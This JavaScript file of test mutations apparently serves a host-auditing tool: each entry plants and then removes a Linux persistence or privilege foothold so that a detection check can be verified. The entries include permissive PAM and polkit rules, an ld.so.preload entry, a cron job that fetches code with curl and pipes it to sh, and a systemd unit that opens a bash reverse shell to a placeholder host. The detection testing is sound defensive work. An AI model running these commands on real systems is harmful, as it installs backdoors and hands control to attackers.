/** Places where a host runs code, or grants power, without being asked. */
const script = (path) => `printf '#!/bin/sh\\nexit 0\\n' >${path} && chmod 0755 ${path}`;
const reload = '[ ! -d /run/systemd/system ] || systemctl daemon-reload';
/** A file in a directory that may not be there, and gone with it afterwards. */
const placed = (directory, name, content) => ({
  apply: `[ -d ${directory} ] || { mkdir -p ${directory} && touch /run/valops-trial-made; }
printf '%s\\n' ${content} >${directory}/${name}${content.includes('#!') ? ` && chmod 0755 ${directory}/${name}` : ''}`,
  undo: `rm ${directory}/${name}; [ ! -e /run/valops-trial-made ] || { rmdir -p --ignore-fail-on-non-empty ${directory}; rm /run/valops-trial-made; }`,
});
const libraries = '/usr/lib/x86_64-linux-gnu';

export const mutations = [
  {
    name: 'pam-rules-of-sshd-given-away',
    check: 'persistence.places-are-roots',
    subject: '/etc/pam.d/sshd',
    apply: 'chown ops /etc/pam.d/sshd',
    undo: 'chown root /etc/pam.d/sshd',
  },
  {
    name: 'packaged-unit-edited',
    check: 'persistence.packaged-files-unchanged',
    subject: '/usr/lib/systemd/system/systemd-tmpfiles-clean.service',
    apply: `cp -p /usr/lib/systemd/system/systemd-tmpfiles-clean.service /run/valops-trial-kept
printf 'ExecStartPost=-/usr/local/sbin/sync\\n' >>/usr/lib/systemd/system/systemd-tmpfiles-clean.service; ${reload}`,
    undo: `cp -p /run/valops-trial-kept /usr/lib/systemd/system/systemd-tmpfiles-clean.service && rm /run/valops-trial-kept; ${reload}`,
  },
  {
    name: 'library-in-every-program',
    check: 'persistence.no-preload',
    subject: '/usr/local/lib/libwatch.so',
    apply: `cp ${libraries}/libdl.so.2 /usr/local/lib/libwatch.so && echo /usr/local/lib/libwatch.so >/etc/ld.so.preload`,
    undo: 'rm /etc/ld.so.preload /usr/local/lib/libwatch.so',
  },
  {
    name: 'libraries-from-a-home',
    check: 'persistence.library-directories',
    subject: '/home/ops/lib',
    apply: 'install -d -o ops /home/ops/lib && echo /home/ops/lib >/etc/ld.so.conf.d/app.conf',
    undo: 'rm /etc/ld.so.conf.d/app.conf && rmdir /home/ops/lib',
  },
  {
    name: 'everybody-may-su',
    check: 'persistence.pam-rules',
    subject: '/etc/pam.d/su auth pam_permit.so',
    apply: `cp -p /etc/pam.d/su /run/valops-trial-kept && sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su`,
    undo: 'cp -p /run/valops-trial-kept /etc/pam.d/su && rm /run/valops-trial-kept',
  },
  {
    name: 'pam-module-of-no-package',
    check: 'persistence.pam-modules',
    subject: `${libraries}/security/pam_watch.so`,
    apply: `cp ${libraries}/security/pam_permit.so ${libraries}/security/pam_watch.so`,
    undo: `rm ${libraries}/security/pam_watch.so`,
  },
  {
    name: 'name-service-module-of-no-package',
    check: 'persistence.name-service-modules',
    subject: `${libraries}/libnss_watch.so.2`,
    apply: `cp ${libraries}/libnss_files.so.2 ${libraries}/libnss_watch.so.2`,
    undo: `rm ${libraries}/libnss_watch.so.2`,
  },
  {
    name: 'generator-added',
    check: 'persistence.generators',
    subject: '/etc/systemd/system-generators/updates',
    ...placed('/etc/systemd/system-generators', 'updates', "'#!/bin/sh'"),
  },
  {
    name: 'cron-runs-a-script-of-a-home',
    check: 'persistence.cron-programs',
    subject: '/home/ops/report.sh',
    apply: `${script('/home/ops/report.sh')} && chown ops /home/ops/report.sh && echo '17 3 * * * root /home/ops/report.sh' >/etc/cron.d/report`,
    undo: 'rm /etc/cron.d/report /home/ops/report.sh',
  },
  {
    name: 'unit-runs-a-script-of-a-home',
    check: 'persistence.unit-programs',
    subject: 'report.service /home/ops/report.sh',
    apply: `${script('/home/ops/report.sh')} && chown ops /home/ops/report.sh
printf '[Service]\\nType=oneshot\\nExecStart=/bin/sh /home/ops/report.sh\\n' >/etc/systemd/system/report.service; ${reload}`,
    undo: `rm /etc/systemd/system/report.service /home/ops/report.sh; ${reload}`,
  },
  {
    name: 'crontab-of-a-service',
    check: 'persistence.user-crontabs',
    subject: 'backup',
    apply: `echo '@daily true' | crontab -u backup -`,
    undo: 'crontab -u backup -r',
  },
  {
    name: 'job-of-at',
    check: 'persistence.no-at-jobs',
    subject: '/var/spool/cron/atjobs/a0000101c2d5aa',
    ...placed('/var/spool/cron/atjobs', 'a0000101c2d5aa', "'#!/bin/sh'"),
  },
  {
    name: 'rc-local-added',
    check: 'persistence.no-rc-local',
    subject: '/etc/rc.local',
    apply: script('/etc/rc.local'),
    undo: 'rm /etc/rc.local',
  },
  {
    name: 'sshrc-added',
    check: 'persistence.login-scripts',
    subject: '/etc/ssh/sshrc',
    apply: 'echo : >/etc/ssh/sshrc',
    undo: 'rm /etc/ssh/sshrc',
  },
  {
    name: 'message-of-the-day-added',
    check: 'persistence.login-scripts',
    subject: '/etc/update-motd.d/50-news',
    ...placed('/etc/update-motd.d', '50-news', "'#!/bin/sh'"),
  },
  {
    name: 'hook-in-the-boot-image',
    check: 'persistence.boot-image-hooks',
    subject: '/etc/initramfs-tools/hooks/tuning',
    ...placed('/etc/initramfs-tools/hooks', 'tuning', "'#!/bin/sh'"),
  },
  {
    name: 'rule-of-polkit-added',
    check: 'persistence.privilege-rules',
    subject: '/etc/polkit-1/rules.d/49-ops.rules',
    ...placed('/etc/polkit-1/rules.d', '49-ops.rules', "'polkit.addRule(function() { return polkit.Result.YES; });'"),
  },
  {
    name: 'hook-of-the-network-added',
    check: 'persistence.network-hooks',
    subject: '/etc/network/if-up.d/routes',
    ...placed('/etc/network/if-up.d', 'routes', "'#!/bin/sh'"),
  },
  {
    name: 'script-at-shutdown',
    check: 'persistence.sleep-hooks',
    subject: '/usr/lib/systemd/system-shutdown/sync',
    ...placed('/usr/lib/systemd/system-shutdown', 'sync', "'#!/bin/sh'"),
  },
  {
    name: 'operator-lingers',
    check: 'persistence.no-lingering',
    subject: '/var/lib/systemd/linger/ops',
    ...placed('/var/lib/systemd/linger', 'ops', "''"),
  },
  {
    name: 'hook-of-apt-added',
    check: 'persistence.package-hooks',
    subject: '/etc/apt/apt.conf.d/99sync',
    ...placed('/etc/apt/apt.conf.d', '99sync', `'APT::Update::Post-Invoke {"/usr/local/sbin/sync || true";};'`),
  },
  {
    name: 'rule-of-udev-runs-a-program',
    check: 'persistence.udev-programs',
    subject: '/etc/udev/rules.d/99-net.rules',
    ...placed('/etc/udev/rules.d', '99-net.rules', `'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/local/sbin/sync"'`),
  },
  {
    name: 'modprobe-runs-a-program',
    check: 'persistence.module-commands',
    subject: '/etc/modprobe.d/storage.conf',
    ...placed('/etc/modprobe.d', 'storage.conf', "'install usb-storage /usr/local/sbin/sync'"),
  },
  {
    name: 'log-feeds-a-program',
    check: 'persistence.log-programs',
    subject: '/etc/rsyslog.d/99-alert.conf',
    ...placed('/etc/rsyslog.d', '99-alert.conf', `'action(type="omprog" binary="/usr/local/sbin/alert")'`),
  },
  {
    name: 'library-path-for-all',
    check: 'persistence.no-code-by-environment',
    subject: 'LD_LIBRARY_PATH in /etc/environment',
    apply: `[ ! -e /etc/environment ] || cp -p /etc/environment /run/valops-trial-kept; echo 'LD_LIBRARY_PATH=/opt/app/lib' >>/etc/environment`,
    undo: 'if [ -e /run/valops-trial-kept ]; then cp -p /run/valops-trial-kept /etc/environment && rm /run/valops-trial-kept; else rm /etc/environment; fi',
  },
  {
    name: 'cron-fetches-and-runs',
    check: 'persistence.no-suspicious-commands',
    subject: '/etc/cron.d/update',
    apply: `echo '@reboot root curl -fsS http://192.0.2.7/u | sh' >/etc/cron.d/update`,
    undo: 'rm /etc/cron.d/update',
  },
  {
    name: 'unit-gives-a-shell-away',
    check: 'persistence.no-suspicious-commands',
    subject: '/etc/systemd/system/health.service',
    apply: `printf '%s\\n' '[Service]' 'ExecStart=/bin/bash -c "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"' >/etc/systemd/system/health.service; ${reload}`,
    undo: `rm /etc/systemd/system/health.service; ${reload}`,
  },
];
